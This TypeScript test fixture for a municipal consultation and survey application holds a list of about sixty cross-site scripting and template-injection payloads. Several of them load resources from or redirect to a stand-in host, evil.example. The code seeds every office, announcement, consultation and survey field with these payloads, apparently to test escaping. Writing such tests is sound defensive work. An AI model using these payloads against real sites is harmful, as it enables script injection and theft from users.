import { v7 as uuid } from "uuid";
import type { Item } from "../../preload/contract/survey-definition.ts";
import { addAnnouncement, addConsultation, fillOffice, paragraph, statement, type Town } from "./town.ts";

/** Ways to make a page run or fetch something, from the usual collections. Each would call window.hit or ask evil.example. */
export const VECTORS: readonly string[] = [
  `<script>hit()</script>`,
  `"><script>hit()</script>`,
  `'><script>hit()</script>`,
  `</title><script>hit()</script>`,
  `</textarea><script>hit()</script>`,
  `</style><script>hit()</script>`,
  `--><script>hit()</script>`,
  `]]><script>hit()</script>`,
  `<ScRiPt>hit()</sCrIpT>`,
  `<script src=//evil.example/a.js></script>`,
  `<script/src="data:text/javascript,hit()"></script>`,
  `<scr<script>ipt>hit()</script>`,
  `<img src=x onerror=hit()>`,
  `<img src=x onerror="hit()">`,
  `<img/src=x/onerror=hit()>`,
  `<img src="https://evil.example/p.png">`,
  `<img srcset="https://evil.example/p.png 1x">`,
  `" onmouseover="hit()" autofocus onfocus="hit()" x="`,
  `' onmouseover='hit()' autofocus onfocus='hit()' x='`,
  `<svg onload=hit()>`,
  `<svg/onload=hit()>`,
  `<svg><script>hit()</script></svg>`,
  `<svg><animate onbegin=hit() attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:hit()"><text x=20 y=20>x</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' onload='hit()'/>#x"></use></svg>`,
  `<math><mtext></mtext><mglyph><style></math><img src onerror=hit()>`,
  `<body onload=hit()>`,
  `<iframe src="javascript:hit()"></iframe>`,
  `<iframe srcdoc="<script>parent.hit()</script>"></iframe>`,
  `<iframe src="https://evil.example/"></iframe>`,
  `<object data="javascript:hit()"></object>`,
  `<embed src="https://evil.example/x.swf">`,
  `<link rel=stylesheet href=https://evil.example/x.css>`,
  `<link rel=prefetch href=https://evil.example/x>`,
  `<style>@import 'https://evil.example/x.css';</style>`,
  `<style>*{background:url(https://evil.example/x)}</style>`,
  `<div style="background:url(https://evil.example/x)">x</div>`,
  `<meta http-equiv="refresh" content="0;url=https://evil.example/">`,
  `<base href="https://evil.example/">`,
  `<form action="https://evil.example/"><button autofocus>x</button></form>`,
  `<input autofocus onfocus=hit()>`,
  `<select autofocus onfocus=hit()>`,
  `<video><source onerror=hit()></video>`,
  `<audio src=x onerror=hit()>`,
  `<video poster="https://evil.example/p.png"></video>`,
  `<details open ontoggle=hit()>x</details>`,
  `<marquee onstart=hit()>x</marquee>`,
  `<a href="javascript:hit()">x</a>`,
  `<a href="data:text/html,<script>hit()</script>">x</a>`,
  `<template><script>hit()</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=hit()>"></noscript>`,
  `<!--><img src=x onerror=hit()>-->`,
  `<![CDATA[<script>hit()</script>]]>`,
  `&lt;script&gt;hit()&lt;/script&gt;`,
  `&#60;script&#62;hit()&#60;/script&#62;`,
  `\\u003cscript\\u003ehit()\\u003c/script\\u003e`,
  "`${hit()}`{{constructor.constructor('hit()')()}}",
  `<x:script xmlns:x="http://www.w3.org/1999/xhtml">hit()</x:script>`,
  `<?xml-stylesheet href="javascript:hit()"?>`,
  `javascript:hit()`,
  `{{ office }} $t(home.title) {{constructor}}`,
];

/** Every vector in every place where a clerk can write. */
export async function fillHostile(town: Town): Promise<void> {
  const all = VECTORS.join(" ");
  await fillOffice(town, {
    name: `Gmina ${VECTORS[1] ?? ""}`,
    address: all,
    phone: VECTORS[2] ?? "",
    email: VECTORS[17] ?? "",
    hours: all,
    bip: "javascript:hit()",
    head_title: all,
    dpo_name: all,
    dpo_email: VECTORS[18] ?? "",
    resolution: all,
    statement: JSON.stringify({ ...statement, contact: all.slice(0, 200), architecture: all, communication: all, nonConformities: all }),
  });
  for (const [n, vector] of VECTORS.entries())
    await addAnnouncement(town, {
      title: vector,
      slug: `wektor-${n}`,
      place: vector,
      urgent: n === 0 ? 1 : 0,
      body: JSON.stringify({
        type: "doc",
        content: [
          paragraph(vector),
          { type: "heading", attrs: { level: 2 }, content: [{ type: "text", text: vector }] },
          { type: "bulletList", content: [{ type: "listItem", content: [paragraph(vector)] }] },
          {
            type: "paragraph",
            content: [{ type: "text", text: vector, marks: [{ type: "link", attrs: { href: `https://gmina.example/?q=${vector}` } }] }],
          },
          { type: "paragraph", content: [{ type: "text", text: vector, marks: [{ type: "link", attrs: { href: `mailto:${vector}` } }] }] },
        ],
      }),
    });
  const consultation = await addConsultation(town, {
    title: all.slice(0, 300),
    slug: "wektory",
    purpose: all,
    legal_basis: all,
    places: JSON.stringify(VECTORS.map((vector, n) => ({ id: `place${n}`, name: vector, address: vector, hours: vector }))),
    contact: JSON.stringify({ name: all, phone: VECTORS[12], email: VECTORS[17] }),
    description: JSON.stringify({ type: "doc", content: VECTORS.map(paragraph) }),
  });
  await addSurvey(town, consultation);
}

/** The code of the survey whose every text, in each language, is a way to break in. */
export const HOSTILE_SURVEY = "K7Q2ZP";

async function addSurvey({ db }: Town, consultation_id: string): Promise<void> {
  let next = 0;
  const vector = () => VECTORS[next++ % VECTORS.length] ?? "";
  const text = () => ({ pl: vector(), en: vector(), uk: vector() });
  const options = (start: string) => Array.from({ length: 3 }, (_, n) => ({ id: `${start}${n}`, text: text() }));
  const asked = (id: string, required = true) => ({ id, text: text(), hint: text(), required });
  const round = (n: number): Item[] => [
    { kind: "section", id: `sect${n}`, text: text(), lead: text() },
    { kind: "note", id: `note${n}`, text: text() },
    { kind: "one", ...asked(`ones${n}`), options: options("opta"), other: true },
    { kind: "several", ...asked(`seve${n}`), options: options("optb"), other: true, max: 2 },
    { kind: "scale", ...asked(`scal${n}`), from: 1, to: 5, low: text(), high: text() },
    { kind: "grid", ...asked(`grid${n}`), rows: options("rowa"), columns: options("cola") },
    { kind: "ranking", ...asked(`rank${n}`), options: options("optc") },
    { kind: "number", ...asked(`numb${n}`), min: 0, max: 9, unit: text() },
    { kind: "shortText", ...asked(`shor${n}`) },
    { kind: "longText", ...asked(`long${n}`), lines: 3 },
  ];
  // Two rounds: every vector stands in every language.
  const definition = JSON.stringify({ languages: ["pl", "en", "uk"], title: text(), lead: text(), items: [...round(1), ...round(2)] });
  const at = "2026-11-16T08:00:00.000Z";
  const survey_id = uuid();
  const row = { definition, version: 1, created_at: at, updated_at: at, deleted_at: null };
  await db
    .insertInto("survey")
    .values({ id: survey_id, consultation_id, pool_id: null, paper: "", sealed: 0, code: HOSTILE_SURVEY, ...row })
    .execute();
  await db
    .insertInto("survey_revision")
    .values({ id: uuid(), survey_id, number: 1, definition, layouts: "{}", frozen_by: "Anna", frozen_at: at })
    .execute();
  await db
    .insertInto("answer_key")
    .values({ id: "0123456789abcdef", public_key: "AAAA", wrapped: "{}", made_by: "Anna", made_at: at, retired_at: null })
    .execute();
  await db
    .insertInto("online_survey")
    .values({ survey_id, way: "file", one_voice: 1, open: 1, version: 1, changed_by: "Anna", changed_at: at })
    .execute();
}
